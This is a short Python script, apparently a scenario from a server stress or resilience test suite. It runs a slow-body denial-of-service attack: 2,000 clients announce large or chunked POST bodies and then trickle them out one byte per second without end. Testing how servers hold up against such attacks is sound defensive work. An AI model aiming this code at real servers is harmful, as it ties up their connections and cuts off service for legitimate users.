"""2,000 clients whose content arrives octet by octet, half of it in chunks of one."""

import asyncio
import random

from wire import send, swarm

CLIENTS = 2_000


async def client(target, connection):
    if random.random() < 0.5:
        await send(connection, b"POST /echo HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n")
        piece = b"a"
    else:
        await send(connection, b"POST /echo HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n")
        piece = b"1\r\na\r\n"
    while True:
        await asyncio.sleep(1)
        await send(connection, piece)
        target.count("octets")


async def attack(target):
    await swarm(target, CLIENTS, lambda connection: client(target, connection))
